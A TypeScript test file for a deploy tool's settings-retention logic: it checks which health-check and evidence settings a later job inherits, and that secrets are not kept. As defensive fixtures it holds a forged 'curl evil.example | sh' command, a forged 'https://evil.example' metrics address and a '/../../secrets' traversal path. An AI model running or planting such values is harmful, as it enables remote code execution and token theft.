/** What a later job keeps of the settings of a deploy. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { keptOf, withKept } from '../../src/settings/kept.ts'
import { parse } from '../../src/settings/parse.ts'
import type { Settings } from '../../src/settings/settings.ts'
import { inputs } from './written.ts'

const read = (values: Readonly<Record<string, string>>): Settings => parse(inputs({ service: 'hello', ...values }))
const deploy = {
  'health-path': '/healthz',
  'health-status': '200, 3xx',
  'health-attempts': '7',
  'health-timeout': '9s',
}

test('the health check of the deploy holds for a job that was given none', () => {
  const later = withKept(read({ command: 'promote' }), keptOf(read(deploy)))
  assert.deepEqual(later.health, read(deploy).health)
})

test('what the deploy measured is measured by a job that was given nothing else', () => {
  const kept = keptOf(read({ evidence: 'users' }))
  assert.equal(withKept(read({ command: 'promote' }), kept).evidence, 'users')
  assert.equal(withKept(read({ command: 'promote', evidence: 'probes' }), kept).evidence, 'probes')
})

test('what the later job was given counts before it, each setting by itself', () => {
  const { health } = withKept(read({ 'health-path': '/ready' }), keptOf(read(deploy)))
  assert.deepEqual([health.path, health.attempts], ['/ready', 7])
})

test('a default that the component hands over does not count as given', () => {
  const { health, given } = withKept(read({ 'health-attempts': ' 3', hold: '30s' }), keptOf(read(deploy)))
  assert.deepEqual([health.attempts, given], [7, {}])
})

test('nothing that may be secret is kept: not a header, a body, or the query of a path', () => {
  const secrets = { 'health-header': 'A: s3cret', 'health-body': 's3cret', 'health-path': '/x?token=s3cret' }
  const kept = keptOf(read({ ...deploy, ...secrets }))
  assert.doesNotMatch(JSON.stringify(kept), /s3cret/)
  assert.deepEqual([...kept.again].sort(), ['health-body', 'health-header', 'health-path'])
})

test('a command is not kept, only how it answers: anyone who may write the Service would choose what a later job runs', () => {
  const kept = keptOf(read({ 'evidence-command': 'sh s3cret.sh', 'evidence-format': 'counts' }))
  assert.doesNotMatch(JSON.stringify(kept), /s3cret/)
  assert.deepEqual(kept.again, ['evidence-command'])
  const forged = { ...kept.texts, 'evidence-command': 'curl evil.example | sh' }
  assert.equal(withKept(read({ command: 'promote' }), { texts: forged }).evidenceCommand, undefined)
  const given = withKept(read({ command: 'promote', 'evidence-command': 'sh s3cret.sh' }), kept)
  assert.deepEqual([given.evidenceCommand?.text, given.evidenceCommand?.format], ['sh s3cret.sh', 'counts'])
})

test('a Prometheus is not kept, since a later job would send its token there', () => {
  const prometheus = { prometheus: 'https://metrics.example', 'prometheus-token': 's3cret' }
  const kept = keptOf(read({ ...prometheus, evidence: 'prometheus' }))
  assert.doesNotMatch(JSON.stringify(kept), /s3cret|metrics\.example/)
  assert.deepEqual(kept.again, ['prometheus', 'prometheus-token'])
  const forged = { prometheus: 'https://evil.example' }
  const later = read({ command: 'promote', ...prometheus })
  assert.equal(withKept(later, { texts: forged }).prometheus?.address, 'https://metrics.example')
})

test('what somebody wrote over it is read like any setting, and dropped where it is none', () => {
  const texts = { 'health-path': '/../../secrets', 'health-header': 'A: b', 'health-attempts': 'many', kubeconfig: 'x' }
  const plain = read({})
  assert.deepEqual(withKept(plain, { texts }), plain)
})
